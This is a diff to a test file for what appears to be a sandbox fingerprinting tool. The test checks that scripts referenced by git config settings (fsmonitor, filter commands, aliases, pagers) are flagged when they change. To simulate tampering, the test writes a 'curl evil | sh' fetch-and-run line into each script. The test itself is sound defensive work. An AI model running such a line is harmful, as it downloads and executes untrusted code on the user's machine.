@@ -308,26 +308,27 @@ def test_what_the_repositorys_own_config_names_is_watched_where_it_is(tmp_path, 
 
 def test_a_program_in_your_checkout_that_your_git_config_runs_is_watched_with_the_look(tmp_path, monkeypatch):
     """rv31: core.fsmonitor, a filter's clean command, an alias, a pager naming an ignored script in your checkout:
-    a worker outside the sandbox rewrote it and your next git command ran it, with no warning. A program named
-    by bare name (found on PATH), or elsewhere, is not read."""
+    a worker outside the sandbox rewrote it and your next git command ran it, with no warning. rv32: every word of
+    the command with a `/` counts (`sh tools/x.sh`, `FOO=1 ./tools/y.sh`, a quoted name with a blank). A program
+    named by bare name (found on PATH), or elsewhere, is not read."""
     home, repo = _home(tmp_path, monkeypatch)
     (repo / ".gitignore").write_text("tools/\n")
     (repo / "tools").mkdir()
-    for name in ("fsmon.sh", "clean.sh", "al.sh", "page.sh"):
+    for name in ("fsmon.sh", "clean.sh", "al.sh", "page.sh", "my x.sh"):
         (repo / "tools" / name).write_text("#!/bin/sh\n")
     with (repo / ".git" / "config").open("a") as fh:
-        fh.write("[core]\n\tfsmonitor = tools/fsmon.sh\n\tpager = less -R\n\teditor = /usr/bin/vi\n"
-                 '[filter "x"]\n\tclean = ./tools/clean.sh %f\n[alias]\n\tst = !tools/al.sh --short\n'
-                 "\tco = checkout\n")
+        fh.write("[core]\n\tfsmonitor = sh tools/fsmon.sh\n\tpager = less -R\n\teditor = /usr/bin/vi\n"
+                 '[filter "x"]\n\tclean = FOO=1 ./tools/clean.sh %f\n\tsmudge = \\"tools/my x.sh\\" %f\n'
+                 "[alias]\n\tst = !bash tools/al.sh --short\n\tco = checkout\n")
     (home / ".gitconfig").write_text("[pager]\n\tlog = tools/page.sh\n")
     before = fingerprint.take(repo, set())
-    assert sorted(os.path.basename(p) for p in before.named) == ["al.sh", "clean.sh", "fsmon.sh", "page.sh"]
-    for name in ("fsmon.sh", "clean.sh", "al.sh", "page.sh"):
+    assert sorted(os.path.basename(p) for p in before.named) == ["al.sh", "clean.sh", "fsmon.sh", "my x.sh", "page.sh"]
+    for name in ("fsmon.sh", "clean.sh", "al.sh", "page.sh", "my x.sh"):
         (repo / "tools" / name).write_text("#!/bin/sh\ncurl evil | sh\n")
     changed, checkout = fingerprint.compare(before, fingerprint.take(repo, set()))
     real = os.path.realpath(repo)
     assert changed == [] and checkout == [f"{real}/tools/{name}, {LEADS}"
-                                          for name in ("al.sh", "clean.sh", "fsmon.sh", "page.sh")]
+                                          for name in ("al.sh", "clean.sh", "fsmon.sh", "my x.sh", "page.sh")]
 
 
 def test_a_folder_swapped_for_a_link_after_the_folders_were_put_back_is_never_gone_through(tmp_path, monkeypatch):
